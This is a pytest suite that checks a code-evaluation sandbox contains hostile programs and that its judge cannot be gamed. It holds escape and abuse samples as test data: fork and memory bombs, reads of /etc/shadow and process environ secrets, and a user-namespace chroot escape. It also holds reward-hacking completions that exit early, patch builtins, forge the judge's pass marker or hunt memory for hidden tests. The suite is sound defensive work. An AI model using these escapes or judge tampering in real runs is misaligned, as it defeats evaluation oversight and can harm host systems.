"""The hostile-program suite, on both backends: each program is contained (a failure with the
right status), the sandbox goes on (the `sandbox` fixture checks it after every test), and the
host is unchanged (its files, its processes, its listeners).

The docker half needs a container engine: `eval "$(scripts/container-engine.sh)"` starts
Podman and exports DOCKER_HOST (.ci/run does it); without one it is skipped, saying so.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from heldout.episodes.judge import score
from heldout.errors import SandboxError
from heldout.sandbox.config import SandboxConfig, make_sandbox
from heldout.sandbox.protocol import DEFAULT_IMAGE, ExecResult, Program
from heldout.tasks.record import Task
from tests.conftest import SANDBOX_BACKENDS, reason_line

REPO = Path(__file__).resolve().parents[2]
LIMITS = {"timeout_s": 1.5, "memory_mb": 256}

# Correct, so that only the hostile part can make it fail. abs() lets a test see whether a
# completion's monkeypatching reaches the tests.
TASK = Task(
    id="hostile/add",
    group="hostile",
    prompt='def add(a, b):\n    """Return a + b."""\n',
    entry_point="add",
    tests="def check(candidate):\n"
    "    assert abs(candidate(2, 3) - 5) < 1e-9\n"
    "    assert candidate(-1, 1) == 0\n\n"
    "check(add)\n",
)
CORRECT = "    return a + b\n"
WRONG = "    return 0\n"


def processes_tagged(tag: str) -> list[int]:
    """Processes on this host whose command line holds `tag`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if tag.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue  # it ended while we looked
    return found


def outputs(result: ExecResult) -> str:
    return result.stdout_tail + result.stderr_tail


# --- limits --------------------------------------------------------------------------------


def test_an_infinite_loop_times_out(sandbox):
    result = sandbox.run("while True:\n    pass\n", **LIMITS)
    assert (result.passed, result.status, result.network_isolated) == (False, "timeout", True)


def test_a_program_that_sleeps_silently_past_its_deadline_times_out(sandbox):
    result = sandbox.run("import time\ntime.sleep(60)\n", **LIMITS)
    assert (result.passed, result.status) == (False, "timeout")
    assert result.stdout_tail == ""


def test_a_fork_bomb_is_contained_and_killed_whole(sandbox):
    tag = f"heldout-fork-bomb-{secrets.token_hex(6)}"
    bomb = "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n" \
           "        time.sleep(0.01)\n"
    # exec'd with the tag in its arguments, so that every process of the bomb carries it.
    program = f"import os, sys\nos.execv(sys.executable, [sys.executable, '-c', {bomb!r}, " \
              f"{tag!r}])\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "timeout")
    assert processes_tagged(tag) == []


def test_a_memory_bomb_ends_as_oom(sandbox):
    program = "chunks = []\nwhile True:\n    chunks.append(bytearray(16 * 1024 * 1024))\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "oom")


def test_a_gigabyte_on_stdout_is_cut_off_and_only_its_tail_kept(sandbox):
    program = "import sys\nchunk = 'x' * 2**20\nfor _ in range(1024):\n" \
              "    sys.stdout.write(chunk)\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "MiB of output: killed" in result.stderr_tail
    assert 0 < len(result.stdout_tail) <= 4096


def test_a_gigabyte_file_in_the_work_dir_stops_at_the_file_size_limit(sandbox):
    program = "with open('big', 'wb') as big:\n    for _ in range(1024):\n" \
              "        big.write(b'x' * 2**20)\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "File too large" in result.stderr_tail


# --- the host's files, secrets and network -------------------------------------------------


@pytest.fixture
def canary():
    """A file in the project that programs try to overwrite; removed afterwards."""
    path = REPO / f".heldout-sandbox-canary-{secrets.token_hex(6)}"
    path.write_text("original\n")
    yield path
    path.unlink()


@pytest.mark.parametrize("where", ["data", "ledger", "home", "existing project file"])
def test_writes_outside_the_work_dir_fail_and_change_nothing(sandbox, canary, where):
    token = secrets.token_hex(6)
    target = {
        "data": REPO / "data" / f"heldout-canary-{token}",
        "ledger": REPO / "ledger" / f"heldout-canary-{token}",
        "home": Path.home() / f".heldout-canary-{token}",
        "existing project file": canary,
    }[where]
    result = sandbox.run(f"open({str(target)!r}, 'w').write('overwritten')\n", **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    if where == "existing project file":
        assert target.read_text() == "original\n"
    else:
        assert not target.exists()


def test_the_project_and_the_test_split_cannot_be_read(sandbox, canary):
    secret = secrets.token_hex(16)
    canary.write_text(secret)
    test_split = REPO / "data" / "split" / "test.jsonl"
    program = f"for path in {[str(canary), str(test_split)]!r}:\n    print(open(path).read())\n"
    result = sandbox.run(program, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "FileNotFoundError" in result.stderr_tail
    assert secret not in outputs(result)
    if test_split.is_file():
        assert test_split.read_text()[:60] not in outputs(result)


@pytest.mark.parametrize("backend", SANDBOX_BACKENDS)
def test_secrets_in_the_environment_do_not_reach_programs(request, backend, monkeypatch):
    request.getfixturevalue(f"{backend}_sandbox")  # skips where the backend cannot run
    secret = f"heldout-fake-secret-{secrets.token_hex(8)}"
    for name in ("HELDOUT_FAKE_TOKEN", "AWS_SECRET_ACCESS_KEY", "MLFLOW_TRACKING_PASSWORD"):
        monkeypatch.setenv(name, secret)
    # Opened after the secret is set, so its workers would inherit it if anything did.
    with make_sandbox(backend, workers=1) as fresh:
        environ_files = ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getpid()}/environ"]
        program = (
            "import os\nprint(sorted(os.environ))\nprint(dict(os.environ))\n"
            f"for path in {environ_files!r}:\n"
            "    try:\n        print(open(path, 'rb').read())\n"
            "    except OSError as error:\n        print(error)\n"
            "raise SystemExit(3)\n"
        )
        result = fresh.run(program, **LIMITS)
    assert (result.status, result.exit_code) == ("failed", 3)
    assert "PATH" in result.stdout_tail
    assert secret not in outputs(result)


def test_no_connection_leaves_the_sandbox_to_an_outside_address(sandbox):
    # 192.0.2.1 is TEST-NET-1 (documentation only). The program connects only after it has
    # checked that it sees no interface but loopback, so nothing is sent even if isolation broke.
    result = sandbox.run(_connect_program("192.0.2.1", 80), **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert "not isolated" not in result.stderr_tail
    assert "OSError" in result.stderr_tail or "TimeoutError" in result.stderr_tail


def test_a_listener_on_the_hosts_loopback_receives_nothing(sandbox):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        port = listener.getsockname()[1]
        result = sandbox.run(_connect_program("127.0.0.1", port), **LIMITS)
        assert (result.passed, result.status) == (False, "failed")
        assert "not isolated" not in result.stderr_tail
        with pytest.raises(BlockingIOError):
            listener.accept()  # a connection that had been made would be waiting here


def _connect_program(host: str, port: int) -> str:
    return (
        "import socket\n"
        "others = [name for _, name in socket.if_nameindex() if name != 'lo']\n"
        "if others:\n    raise SystemExit(f'not isolated: {others}')\n"
        f"socket.create_connection(({host!r}, {port}), timeout=1).sendall(b'leak')\n"
    )


# --- the subprocess backend's jail: an allow-list ------------------------------------------
# Its programs see a root of their own (heldout/sandbox/jail.py): /usr and the system's lib
# and bin folders (or their symlinks), the interpreter, a few devices, /proc, /tmp and the work
# folder. Nothing else of the machine, however readable it is there.

SYSTEM_FOLDERS = ("/usr", "/bin", "/sbin", "/lib", "/lib64", "/lib32")
DEVICES = ["fd", "full", "null", "random", "stderr", "stdin", "stdout", "urandom", "zero"]
PREFIX = os.path.realpath(sys.base_prefix)  # the sandbox runs this interpreter (its default)


def _shared_libraries() -> list[str]:
    ldd = shutil.which("ldd")
    if ldd is None:
        return []
    found = subprocess.run([ldd, os.path.realpath(sys.executable)], capture_output=True,
                           text=True, check=False).stdout
    return [words[0] for line in found.splitlines()
            if (words := line.partition("=>")[2].split() or line.split())
            and words[0].startswith("/")]


def _allowed_top_entries() -> set[str]:
    paths = [*SYSTEM_FOLDERS, "/dev", "/proc", "/tmp", PREFIX, os.path.realpath(sys.executable)]
    if not any(os.path.realpath(sys.executable).startswith(f"{f}/") for f in SYSTEM_FOLDERS):
        paths += [os.path.realpath(p) for p in _shared_libraries()] + _shared_libraries()
    tops = {Path(p).parts[1] for p in paths}
    return {top for top in tops if os.path.lexists(f"/{top}")}


def _run_json(sandbox, program: str) -> object:
    result = sandbox.run("import json, os, sys\n" + program, **LIMITS)
    assert (result.status, result.stderr_tail) == ("ok", ""), outputs(result)
    return json.loads(result.stdout_tail)


LISTING = """
def listing(path):
    try:
        return sorted(os.listdir(path))
    except OSError as error:
        return type(error).__name__
print(json.dumps({path: listing(path) for path in sys.argv[1:] or PATHS}))
"""


def test_the_jail_root_holds_only_the_allow_list(subprocess_sandbox):
    ancestors = [str(p) for p in Path(PREFIX).parents if str(p) != "/"]
    paths = ["/", "/dev", "/tmp", *ancestors]
    seen = _run_json(subprocess_sandbox, f"PATHS = {paths!r}\n{LISTING}")
    assert set(seen["/"]) == _allowed_top_entries()
    for name in ("bin", "sbin", "lib", "lib64", "lib32"):
        assert (name in seen["/"]) == os.path.lexists(f"/{name}")
    assert seen["/dev"] == DEVICES
    assert len(seen["/tmp"]) == 1 and seen["/tmp"][0].startswith("program-")  # its own
    # Where the interpreter lives outside /usr (a pyenv version under /root), each folder on
    # the way to it holds that way alone: no sibling, no other version.
    for folder in ancestors:
        if not any(folder == f or folder.startswith(f"{f}/") for f in SYSTEM_FOLDERS):
            below = Path(PREFIX).relative_to(folder).parts[0]
            assert seen[folder] == [below], folder


@pytest.fixture
def outside_canaries():
    """Secrets in folders outside the project: the machine's /tmp, the project's parent (the
    place of other clones) and the home folder."""
    secret = f"heldout-outside-canary-{secrets.token_hex(8)}"
    folders = [Path(tempfile.mkdtemp(prefix="heldout-clone-", dir=parent))
               for parent in ("/tmp", REPO.parent, Path.home())]
    files = []
    for folder in folders:
        for name in ("params.yaml", "data/split/test.sealed"):
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(secret)
            path.chmod(0o644)
            files.append(path)
        folder.chmod(0o755)
    yield secret, folders, files
    for folder in folders:
        shutil.rmtree(folder)


def test_files_outside_the_project_are_neither_readable_nor_there(subprocess_sandbox,
                                                                   outside_canaries):
    secret, folders, files = outside_canaries
    program = (
        f"import os\nfor path in {[str(p) for p in files]!r}:\n"
        "    try:\n        print(open(path).read())\n"
        "    except OSError as error:\n        print(type(error).__name__)\n"
        f"print([os.path.lexists(p) for p in {[str(p) for p in folders]!r}])\n"
        f"print(sorted(os.listdir({str(REPO.parent)!r})) if os.path.isdir("
        f"{str(REPO.parent)!r}) else 'gone')\n"
    )
    result = subprocess_sandbox.run(program, **LIMITS)
    assert result.status == "ok", outputs(result)
    assert secret not in outputs(result)
    lines = result.stdout_tail.splitlines()
    assert lines[:len(files)] == ["FileNotFoundError"] * len(files)
    assert lines[len(files)] == str([False] * len(folders))


def test_etc_root_and_the_other_folders_of_the_machine_are_not_there(subprocess_sandbox):
    paths = ["/etc", "/etc/passwd", "/etc/shadow", "/root", "/home", "/work", "/var", "/opt",
             "/srv", "/mnt", "/media", "/run", "/sys", "/boot", "/dev/shm", str(REPO)]
    program = (f"import os\nfor path in {paths!r}:\n"
               "    try:\n        print(path, sorted(os.listdir(path)) if os.path.isdir(path) "
               "else open(path).read(10))\n"
               "    except OSError as error:\n        print(path, type(error).__name__)\n")
    result = subprocess_sandbox.run(program, **LIMITS)
    assert result.status == "ok", outputs(result)
    seen = dict(line.split(" ", 1) for line in result.stdout_tail.splitlines())
    for path in paths:
        if PREFIX.startswith(f"{path}/"):
            # Only the way to the interpreter: /root holds .pyenv and nothing else.
            assert seen[path] == str([Path(PREFIX).relative_to(path).parts[0]]), path
        else:
            assert seen[path] == "FileNotFoundError", path


def test_the_interpreter_and_the_standard_library_work_in_the_jail(subprocess_sandbox):
    program = (
        "import json, math, random, collections, re, hashlib, itertools, functools, typing\n"
        "import time, datetime, decimal, fractions, heapq, bisect, string, statistics\n"
        "import subprocess, sys\n"
        "assert math.isclose(math.sqrt(2) ** 2, 2)\n"
        "assert hashlib.md5(b'').hexdigest() == 'd41d8cd98f00b204e9800998ecf8427e'\n"
        "assert re.fullmatch(r'a+b', 'aab') and collections.Counter('aab')['a'] == 2\n"
        "assert random.Random(1).random() == random.Random(1).random()\n"
        "assert list(itertools.accumulate([1, 2])) == [1, 3]\n"
        "assert functools.reduce(int.__add__, [1, 2]) == 3 and typing.List[int]\n"
        "local = time.localtime()\n"
        "assert local.tm_year >= 2024 and datetime.datetime.now().year >= 2024\n"
        "print(json.dumps({'local': time.strftime('%Y', local)}))\n"
        # The interpreter itself, started afresh from inside (as a program may).
        "child = subprocess.run([sys.executable, '-I', '-S', '-c', 'import hashlib, json; "
        "print(json.dumps(hashlib.sha256(b\"\").hexdigest()[:8]))'], capture_output=True, "
        "text=True)\n"
        "print(child.returncode, child.stdout.strip(), child.stderr[-300:])\n"
    )
    result = subprocess_sandbox.run(program, **LIMITS)
    assert (result.status, result.stderr_tail) == ("ok", ""), outputs(result)
    assert result.stdout_tail.splitlines()[1] == '0 "e3b0c442" '


WRITES = r"""
def attempt(path, make):
    try:
        make(path)
        return "written"
    except OSError as error:
        return type(error).__name__
here = os.getcwd()
targets = ["/", "/tmp", "/usr", "/usr/lib", "/dev", "/proc", os.path.dirname(sys.executable),
           sys.prefix, os.path.dirname(os.__file__), os.path.dirname(here)] + EXTRA
results = {}
for folder in targets:
    results[folder] = [attempt(os.path.join(folder, "heldout-canary"),
                               lambda p: open(p, "w").write("x")),
                       attempt(os.path.join(folder, "heldout-canary-folder"), os.mkdir)]
results["existing"] = [attempt(os.__file__, lambda p: open(p, "a").write("#")),
                       attempt(sys.executable, lambda p: os.chmod(p, 0o777))]
results["here"] = [attempt(os.path.join(here, "mine"), lambda p: open(p, "w").write("x")),
                   attempt(os.path.join(here, "sub"), os.mkdir)]
results["/dev/null"] = [attempt("/dev/null", lambda p: open(p, "w").write("x"))]
mounts = ["/", "/usr", sys.prefix, "/dev", "/dev/null", "/proc", "/tmp", here]
results["flags"] = {path: [bool(os.statvfs(path).f_flag & flag)
                           for flag in (os.ST_RDONLY, os.ST_NOSUID)] for path in mounts}
print(json.dumps(results))
"""


def test_writing_anywhere_but_the_work_dir_fails(subprocess_sandbox):
    extra = ["/root", str(Path(PREFIX).parent)]
    results = _run_json(subprocess_sandbox, f"EXTRA = {extra!r}\n{WRITES}")
    assert results.pop("here") == ["written", "written"]
    assert results.pop("/dev/null") == ["written"]
    # Every mount nosuid, and read-only but for the work root and /proc.
    flags = results.pop("flags")
    assert all(nosuid for _, nosuid in flags.values()), flags
    writable = {path for path, (read_only, _) in flags.items() if not read_only}
    assert writable == {"/proc", "/tmp"} | {p for p in flags if p.startswith("/tmp/")}, flags
    for where, outcome in results.items():
        assert "written" not in outcome, where
    assert not (Path(PREFIX) / "heldout-canary").exists()


USER_NAMESPACE_ESCAPE = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, MNT_DETACH = 0x10000000, 0x00020000, 2
tried = {}
if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
    tried["unshare"] = os.strerror(ctypes.get_errno())
else:
    # root in a user namespace of its own: chroot out of a subfolder, unmount what covers.
    os.mkdir("inner")
    os.chroot("inner")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    for target in ("/", "/usr", "/tmp", "/proc"):
        tried[target] = libc.umount2(target.encode(), MNT_DETACH)
tried["/ after"] = sorted(os.listdir("/"))
tried["/etc"] = os.path.lexists("/etc")
print(json.dumps(tried))
"""


def test_a_user_namespace_of_the_programs_own_leads_nowhere_out(subprocess_sandbox):
    tried = _run_json(subprocess_sandbox, USER_NAMESPACE_ESCAPE)
    assert set(tried["/ after"]) == _allowed_top_entries()
    assert tried["/etc"] is False
    assert all(tried.get(target, -1) == -1 for target in ("/", "/usr", "/tmp", "/proc"))


def test_hidden_paths_inside_the_allow_list_are_covered(subprocess_sandbox):
    shared, env = Path("/usr/share"), Path(os.path.realpath("/usr/bin/env"))
    if not (shared.is_dir() and env.is_file()):
        pytest.skip("this machine has no /usr/share or no /usr/bin/env")
    with make_sandbox("subprocess", workers=1, hidden_paths=(str(shared), str(env))) as hiding:
        result = hiding.run(
            f"import os, math\nprint(os.listdir({str(shared)!r}), "
            f"open({str(env)!r}, 'rb').read(), math.pi > 3)\n", **LIMITS)
    assert (result.status, result.stdout_tail) == ("ok", "[] b'' True\n"), outputs(result)


# --- processes -----------------------------------------------------------------------------


@pytest.mark.parametrize("kill", ["os.kill(os.getppid(), 9)", "os.kill(-1, 9)"])
def test_killing_the_parent_or_everything_kills_no_sandbox_and_no_host_process(sandbox, kill):
    result = sandbox.run(f"import os\n{kill}\nraise SystemExit('survived')\n", **LIMITS)
    assert (result.passed, result.status) == (False, "failed")


def test_a_background_process_that_outlives_the_program_is_killed(sandbox):
    tag = f"heldout-background-{secrets.token_hex(6)}"
    program = (
        "import os, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(60)', "
        f"{tag!r}])\n"
        "    os._exit(0)\n"
        "print('left it running')\n"
    )
    result = sandbox.run(program, **LIMITS)
    # The program itself ended well, and the sleeper holding its stdout did not make it wait.
    assert (result.status, result.stdout_tail) == ("ok", "left it running\n")
    assert processes_tagged(tag) == []


# --- scored programs: the judge decides -------------------------------------------------------
# The full reward-hacking suite is tests/sandbox/test_judge_adversarial.py; these are the exits and
# tampering that the single-process marker design had to defend against, kept on the judge.


@pytest.mark.parametrize(
    "completion",
    [
        CORRECT + "import sys\nsys.exit(0)\n",
        CORRECT + "import os\nos._exit(0)\n",
        CORRECT + "raise SystemExit(0)\n",
        CORRECT + "import threading, os\nthreading.Thread(target=os._exit, args=(0,)).start()\n"
        "import time\ntime.sleep(5)\n",
    ],
    ids=["sys.exit", "os._exit", "SystemExit", "exit-from-a-thread"],
)
def test_exit_0_before_the_checks_is_not_a_pass(sandbox, completion):
    result = score(TASK, completion, sandbox, **LIMITS)
    assert (result.passed, result.status, result.exit_code) == (False, "failed", None)
    assert reason_line(result).startswith("[heldout judge] ")


@pytest.mark.parametrize(
    "hack",
    [
        "import builtins\nbuiltins.abs = lambda x: 0\n",
        "import builtins\nbuiltins.exec = builtins.compile = lambda *a, **k: None\n",
        "import builtins\nbuiltins.AssertionError = type('Nope', (Exception,), {})\n",
        "import os, sys\nsys.audit('heldout.checked')\nos._exit(0)\n",
        "import os\nprint('\\nheldout-checks-returned:' + '0' * 32, flush=True)\nos._exit(0)\n",
        "x = \'\'\'\n",
    ],
    ids=["patch-abs", "patch-exec", "patch-AssertionError", "raise-the-event", "print-a-guess",
         "swallow-the-tests"],
)
def test_a_wrong_completion_cannot_pass_by_tampering(sandbox, hack):
    assert score(TASK, CORRECT, sandbox, **LIMITS).passed, "the task itself must be passable"
    result = score(TASK, WRONG + hack, sandbox, **LIMITS)
    assert (result.passed, result.status) == (False, "failed")
    assert reason_line(result).startswith("[heldout judge] ")


TESTS_HUNT = r"""
import gc, os, re, sys
seen = []
def look(what):
    try:
        seen.append(repr(what()))
    except BaseException as error:
        seen.append(repr(error))
look(lambda: open(sys.modules['__main__'].__file__).read())
look(lambda: sys.stdin.read())
def every_fd():
    found = []
    for fd in range(64):
        try:
            os.set_blocking(fd, False)
            found.append(os.read(fd, 1 << 16))
        except OSError as error:
            found.append(repr(error))
    return found
look(every_fd)
look(lambda: [p for p in os.listdir('/proc') if p.isdigit()])
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    for part in ('cmdline', 'environ', 'mem', 'maps'):
        look(lambda: open(f'/proc/{pid}/{part}', 'rb').read(1 << 16))
    look(lambda: [open(f'/proc/{pid}/fd/{fd}', 'rb').read(1 << 16)
                  for fd in os.listdir(f'/proc/{pid}/fd')])
look(lambda: [frame.f_locals for frame in [sys._getframe(i) for i in range(8)]])
look(lambda: [o for o in gc.get_objects() if isinstance(o, (str, bytes)) and b'' == b''])
look(lambda: dict(os.environ))
found = ' '.join(seen)
hidden = 'candidate(' + '-1, 1)'  # spelt so that this program's own text does not hold it
print('FOUND-THE-TESTS' if hidden in found else 'no tests in sight',
      flush=True)
"""


def test_the_tests_cannot_be_found_from_inside_the_program(sandbox):
    result = score(TASK, WRONG + TESTS_HUNT, sandbox, **LIMITS)
    assert "no tests in sight" in result.stdout_tail
    assert "FOUND-THE-TESTS" not in result.stdout_tail
    # It may have swallowed the judge's first call, which then gets no answer in time.
    assert not result.passed and result.status in ("failed", "timeout")


def test_a_correct_completion_that_prints_and_uses_the_standard_library_passes(sandbox):
    completion = (
        "    from collections import namedtuple\n"
        "    Pair = namedtuple('Pair', 'a b')\n"
        "    print('computing', Pair(a, b))\n"
        "    return sum(Pair(a, b))\n"
    )
    result = score(TASK, completion, sandbox, **LIMITS)
    assert (result.passed, result.status) == (True, "ok")
    assert "computing Pair(a=2, b=3)" in result.stdout_tail
    assert reason_line(result) == "[heldout judge] the tests passed"


def test_what_a_passing_solution_prints_is_never_lost_to_the_end_of_the_judge(sandbox):
    # The runner ends the candidate as soon as the judge has its verdict; before the candidate
    # flushed before answering, 48 of 300 runs lost their output this way.
    completion = "    print('computing', a, b)\n    return a + b\n"
    results = [score(TASK, completion, sandbox, **LIMITS) for _ in range(40)]
    lost = [result.stdout_tail for result in results if "computing 2 3" not in
            result.stdout_tail]
    assert lost == [] and all(result.passed for result in results)


# --- configuration and errors --------------------------------------------------------------


def test_an_unknown_backend_or_setting_is_a_sandbox_error():
    with pytest.raises(SandboxError, match="unknown sandbox backend 'vm'"):
        make_sandbox("vm")
    with pytest.raises(SandboxError, match="'subprocess' has no setting colour"):
        make_sandbox("subprocess", colour="blue")
    with make_sandbox("subprocess", workers=1) as sandbox, pytest.raises(
        SandboxError, match="limits must be positive"
    ):
        sandbox.run("pass", timeout_s=0, memory_mb=256)


def test_no_engine_at_docker_host_is_a_sandbox_error_naming_it(monkeypatch, tmp_path):
    address = f"unix://{tmp_path}/nothing-here.sock"
    monkeypatch.setenv("DOCKER_HOST", address)
    with pytest.raises(SandboxError, match="container-engine.sh") as raised:
        make_sandbox("docker")
    assert address in str(raised.value)


def test_a_missing_image_is_a_sandbox_error_saying_how_to_get_one(docker_sandbox):
    with pytest.raises(SandboxError, match="container-engine.sh") as raised:
        make_sandbox("docker", image="heldout-no-such-image:0")
    assert "heldout-no-such-image:0" in str(raised.value)


def test_the_protocol_card_shows_the_sandbox_fields_its_backend_uses():
    """A subprocess run has no image, cpus or container_per (issue 27, item 7)."""
    assert set(SandboxConfig().in_effect()) == {"backend", "memory_mb", "network", "workers",
                                                "wall_factor"}
    docker = SandboxConfig(backend="docker").in_effect()
    assert {"image", "cpus", "container_per"} <= set(docker)


def test_the_config_is_strict_and_opens_the_backend_it_names(subprocess_sandbox):
    config = SandboxConfig()
    assert (config.backend, config.image, config.network) == ("subprocess", DEFAULT_IMAGE, "none")
    with pytest.raises(ValueError, match="Extra inputs"):
        SandboxConfig(backend="subprocess", gpu=True)
    with pytest.raises(ValueError):
        SandboxConfig(network="host")
    with config.open() as opened:
        assert opened.run("print(1)", **LIMITS).stdout_tail == "1\n"


def test_run_many_keeps_the_order_of_its_programs(sandbox):
    programs = [f"import time\ntime.sleep({0.05 * (i % 3)})\nprint({i})\n" for i in range(8)]
    results = sandbox.run_many(programs, **LIMITS)
    assert [r.stdout_tail for r in results] == [f"{i}\n" for i in range(8)]


def test_a_program_runs_in_a_fresh_empty_work_dir_as_an_unprivileged_user(sandbox):
    program = "import os\n" \
              "print(os.listdir('.'), os.getuid() != 0, os.environ['HOME'] == os.getcwd())\n"
    first, second = sandbox.run_many([program, program], **LIMITS)
    assert first.stdout_tail == second.stdout_tail == "['main.py'] True True\n"



@pytest.mark.parametrize("container_per", ["task", "program"])
def test_docker_shares_a_container_among_a_groups_programs_only_when_asked(
    docker_sandbox, container_per
):
    program = Program("import socket\nprint(socket.gethostname())\n", group="one-task")
    with make_sandbox("docker", container_per=container_per) as sandbox:
        hosts = {r.stdout_tail for r in sandbox.run_many([program] * 3, **LIMITS)}
    assert len(hosts) == (1 if container_per == "task" else 3)


def test_without_namespaces_programs_still_run_but_say_they_were_not_isolated(monkeypatch):
    import heldout.sandbox.subprocess as backend

    monkeypatch.setattr(backend, "namespaces_available", lambda: False)
    monkeypatch.setattr(backend, "_warned_unisolated", False)
    with pytest.warns(RuntimeWarning, match="without namespaces"):
        unisolated = make_sandbox("subprocess", workers=1)
    with unisolated:
        result = unisolated.run("import os\nprint(os.getcwd() == os.environ['TMPDIR'])\n",
                                **LIMITS)
        looping = unisolated.run("while True:\n    pass\n", **LIMITS)
    assert (result.status, result.stdout_tail, result.network_isolated) == ("ok", "True\n", False)
    assert looping.status == "timeout"
